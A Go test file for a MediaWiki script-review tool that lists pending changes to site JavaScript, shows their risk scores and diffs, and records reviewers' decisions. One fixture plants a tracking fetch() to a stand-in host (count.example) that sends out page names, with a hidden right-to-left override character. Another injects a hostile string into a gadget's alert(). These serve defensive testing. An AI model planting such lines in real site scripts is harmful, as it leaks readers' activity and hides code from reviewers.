package web

import (
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"sallyport/internal/approved"
	"sallyport/internal/diff"
	"sallyport/internal/mediawiki"
	"sallyport/internal/rule"
	"sallyport/internal/store"
	"sallyport/internal/store/sqlstore"
	"sallyport/internal/wiki"
)

const (
	servedCommon = "// greets people\nmw.notify( 'Welcome' );\n"
	newCommon    = "// greets people\nmw.notify( 'Welcome' );\nfetch( 'https://count.example/?page=' + mw.config.get( 'wgPageName' ) ); // \u202e\n"
)

// desk is a village whose texts are reviewed: what waits, and the book.
type desk struct {
	*approved.Book
	db    *sqlstore.Store
	site  *wiki.Site
	pages map[wiki.Title]wiki.Page
	rev   int64
}

func (d *desk) title(t *testing.T, name string) wiki.Title {
	t.Helper()
	title, err := d.site.Parse(name)
	if err != nil {
		t.Fatal(err)
	}
	return title
}

func (d *desk) save(t *testing.T, name, author, text string) {
	t.Helper()
	title := d.title(t, name)
	d.rev++
	d.pages[title] = wiki.Page{Title: title, ID: 5, Rev: d.rev, Model: wiki.DefaultModel(title), Text: text, Author: author, Touched: today.AddDate(0, 0, -1)}
}

// withReviews is a village where Common.js waits with a new server, a page waits that nothing is served of, and a definition.
func withReviews(t *testing.T) (*desk, func(*Options)) {
	t.Helper()
	db, err := sqlstore.Open(t.Context(), "")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = db.Close() })
	d := &desk{db: db, site: villageSite(), pages: map[wiki.Title]wiki.Page{}, rev: 100}
	read := func(_ context.Context, titles []wiki.Title) (all []wiki.Page, err error) {
		for _, title := range titles {
			all = append(all, d.pages[title])
		}
		return all, nil
	}
	d.Book = approved.New(approved.Options{
		Site: d.site, Store: db, Serve: []string{"site-code", "gadget"}, Testers: []string{"volunteers"}, Pages: read,
		Heads: func(ctx context.Context, titles []wiki.Title) (all []mediawiki.Head, err error) {
			for _, title := range titles {
				all = append(all, mediawiki.Head{Title: title, ID: d.pages[title].ID, Rev: d.pages[title].Rev})
			}
			return all, nil
		},
		AllPages: func(_ context.Context, _ int, yield func([]wiki.Page) error) (err error) {
			for _, p := range d.pages {
				if err == nil {
					err = yield([]wiki.Page{p})
				}
			}
			return err
		},
		Now: func() time.Time { return today },
	})
	d.save(t, "MediaWiki:Common.js", "Ira", servedCommon)
	d.save(t, "MediaWiki:Gadgets-definition", "Ira", "* one [ResourceLoader] | one.js")
	ok := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	ok(d.Begin(t.Context()))
	d.save(t, "MediaWiki:Common.js", "Mallory", newCommon)
	d.save(t, "MediaWiki:Gadgets-definition", "Mallory", "* one [ResourceLoader|default] | one.js")
	d.save(t, "MediaWiki:Gadget-"+strange+".js", hostile, "alert( '"+hostile+"' );")
	d.save(t, "MediaWiki:Gadget-unread.js", "Mallory", "// not read yet")
	ok(d.Sweep(t.Context()))
	l := newLibrary()
	for _, one := range [][2]string{{"MediaWiki:Common.js", servedCommon}, {"MediaWiki:Common.js", newCommon}, {"MediaWiki:Gadget-" + strange + ".js", "alert( '" + hostile + "' );"}} {
		l.texts[one[0]] = one[1]
		l.keep("scan", one[0], rule.Analyse(one[0], []byte(one[1])))
	}
	return d, func(o *Options) {
		o.Reviews, o.Scripts = d.Book, &Scripts{Newest: l.Newest, Known: l, Run: true}
	}
}

func reviewer() wiki.User {
	return wiki.User{ID: 7, Name: "Rita", Rights: []string{"editinterface", "editsitejs"}}
}

func reviewAt(title, text string) string {
	return "/sallyport/review/" + string(store.DigestOf(text)) + "?" + url.Values{"title": {title}}.Encode()
}

func TestWhatWaitsIsListedWithItsRiskBesideWhatIsServed(t *testing.T) {
	d, reviews := withReviews(t)
	s := newSetting(t, reviews)
	page := s.get("/sallyport/review").Body.String()
	checkMarkup(t, page)
	text := visibleText(t, page)
	for _, want := range []string{"4 texts wait.", "MediaWiki:Common.js", "by Mallory", "The text that is served: 7 of 100", "Not read yet", "New page", "24 hours ago"} {
		if !strings.Contains(text, want) {
			t.Errorf("the list does not say %q:\n%s", want, text)
		}
	}
	if strings.Contains(text, "everybody") {
		t.Error("a reader is told who runs what")
	}
	s.me = reviewer()
	if text := visibleText(t, s.get("/sallyport/review").Body.String()); !strings.Contains(text, "everybody") {
		t.Errorf("a reviewer is not told who runs it:\n%s", text)
	}
	if text := s.get("/sallyport/review?uselang=he").Body.String(); !strings.Contains(text, "4 נוסחים ממתינים") {
		t.Error("not in Hebrew")
	}
	var data struct {
		Schema  string
		Waiting []struct {
			Title  string
			SHA256 string
			Score  *int
			Served *int `json:"score_served"`
		}
	}
	if err := json.Unmarshal(s.get("/sallyport/review.json").Body.Bytes(), &data); err != nil || data.Schema != "sallyport.review/1" || len(data.Waiting) != 4 {
		t.Fatalf("%+v %v", data, err)
	}
	for _, w := range data.Waiting {
		switch w.Title {
		case "MediaWiki:Common.js":
			if w.Score == nil || w.Served == nil || *w.Score <= *w.Served || w.SHA256 != string(store.DigestOf(newCommon)) {
				t.Errorf("%+v", w)
			}
		case "MediaWiki:Gadget-unread.js":
			if w.Score != nil || w.Served != nil {
				t.Errorf("%+v", w)
			}
		}
	}
	if table := s.get("/sallyport/review.csv").Body.String(); strings.Count(table, "\n") != 5 || !strings.Contains(table, "title,revision,sha256") {
		t.Error(table)
	}
	for _, w := range data.Waiting {
		if err := d.Decide(t.Context(), d.title(t, w.Title), store.Digest(w.SHA256), wiki.User{ID: 8, Name: "Ada", Rights: reviewer().Rights}, store.ReviewApproved, ""); err != nil {
			t.Fatal(err)
		}
	}
	if text := visibleText(t, s.get("/sallyport/review").Body.String()); !strings.Contains(text, "Nothing waits. When somebody changes") {
		t.Errorf("an empty list says:\n%s", text)
	}
	if w := newSetting(t).get("/sallyport/review"); w.Code != http.StatusNotFound {
		t.Errorf("where all texts are served: %d", w.Code)
	}
}

func TestATextShowsOnTopWhatItCanDoThatTheServedOneCannot(t *testing.T) {
	_, reviews := withReviews(t)
	s := newSetting(t, reviews)
	s.me = reviewer()
	page := s.get(reviewAt("MediaWiki:Common.js", newCommon)).Body.String()
	checkMarkup(t, page)
	text := visibleText(t, page)
	last := 0
	for _, want := range []string{"Waits", "Mallory", "What it can do that the text which is served cannot", "contacts count.example", "The text that is served: 7 of 100", "What was found that is new", "What differs", "fetch", "[U+202E]", "Decision", "Approve", "Testing"} {
		at := strings.Index(text[last:], want)
		if at < 0 {
			t.Fatalf("after %q the page does not say %q:\n%s", text[max(0, last-30):last], want, text)
		}
		last += at
	}
	if strings.Contains(page, "\u202e") {
		t.Error("a character turns the page round")
	}
	for name, c := range map[string]struct{ title, text, want string }{
		"nobody has read it":    {"MediaWiki:Gadget-unread.js", "// not read yet", "No analysis has read this text yet."},
		"nobody reads such":     {"MediaWiki:Gadgets-definition", "* one [ResourceLoader|default] | one.js", "No analysis reads such a page."},
		"nothing is served":     {"MediaWiki:Gadget-" + strange + ".js", "alert( '" + hostile + "' );", "alert"},
		"it was there at first": {"MediaWiki:Common.js", servedCommon, "counts as approved"},
	} {
		page := s.get(reviewAt(c.title, c.text)).Body.String()
		checkMarkup(t, page)
		if !strings.Contains(visibleText(t, page), c.want) {
			t.Errorf("%s:\n%s", name, visibleText(t, page))
		}
	}
	for name, path := range map[string]string{
		"never seen": reviewAt("MediaWiki:Common.js", "never"), "another page": reviewAt("MediaWiki:Other.js", newCommon), "no page": reviewAt("", newCommon), "no digest": "/sallyport/review/zz?title=MediaWiki:Common.js",
	} {
		if w := s.get(path); w.Code != http.StatusNotFound {
			t.Errorf("%s: %d", name, w.Code)
		}
	}
}

func TestADifferenceThatIsTooLongSaysSo(t *testing.T) {
	rows := diff.Of("", strings.Repeat("x();\n", mostLines+40))
	if shown, left := cut(rows); len(shown) != mostLines || left != 41 {
		t.Errorf("%d lines are shown and %d left out", len(shown), left)
	}
	if shown, left := cut(diff.Of("a", "b\n"+strings.Repeat("y", mostBytes))); len(shown) != 2 || left != 1 {
		t.Errorf("one long line: %d shown, %d left out", len(shown), left)
	}
	if shown, left := cut(diff.Of("a", "b")); len(shown) != 2 || left != 0 {
		t.Errorf("a short one: %d, %d", len(shown), left)
	}
}

func TestThePageOfAScriptLeadsToTheReviewOfATextThatReadersDoNotGet(t *testing.T) {
	d, reviews := withReviews(t)
	s := newSetting(t, reviews)
	says := func() string {
		t.Helper()
		page := s.get("/sallyport/script/MediaWiki:Common.js").Body.String()
		checkMarkup(t, page)
		leads := strings.Contains(page, "/sallyport/review/"+string(store.DigestOf(newCommon)))
		for _, what := range []string{"it waits for reviewers", "reviewers rejected it"} {
			if strings.Contains(page, what) && leads {
				return what
			}
		}
		return ""
	}
	decide := func(state store.ReviewState) {
		t.Helper()
		if err := d.Decide(t.Context(), d.title(t, "MediaWiki:Common.js"), store.DigestOf(newCommon), reviewer(), state, "looked at"); err != nil {
			t.Fatal(err)
		}
	}
	if got := says(); got != "it waits for reviewers" {
		t.Errorf("a text that waits: %q", got)
	}
	decide(store.ReviewRejected)
	if got := says(); got != "reviewers rejected it" {
		t.Errorf("a rejected text: %q", got)
	}
	decide(store.ReviewApproved)
	if got := says(); got != "" {
		t.Errorf("an approved text: %q", got)
	}
}

func TestThePageOfAGadgetSaysWhichOfItsPagesWait(t *testing.T) {
	d, reviews := withReviews(t)
	s := newSetting(t, reviews)
	s.made(1, "MediaWiki:Common.js", "User:Ira/footnotes.js")
	page := s.get("/sallyport/gadget/p1").Body.String()
	checkMarkup(t, page)
	if text := visibleText(t, page); strings.Count(text, "A newer text of") != 1 || !strings.Contains(page, "/sallyport/review/"+string(store.DigestOf(newCommon))) {
		t.Errorf("the page does not lead to what waits:\n%s", text)
	}
	if err := d.Decide(t.Context(), d.title(t, "MediaWiki:Common.js"), store.DigestOf(newCommon), reviewer(), store.ReviewApproved, ""); err != nil {
		t.Fatal(err)
	}
	if text := visibleText(t, s.get("/sallyport/gadget/p1").Body.String()); strings.Contains(text, "A newer text of") {
		t.Errorf("the page still speaks of a text that was approved:\n%s", text)
	}
}
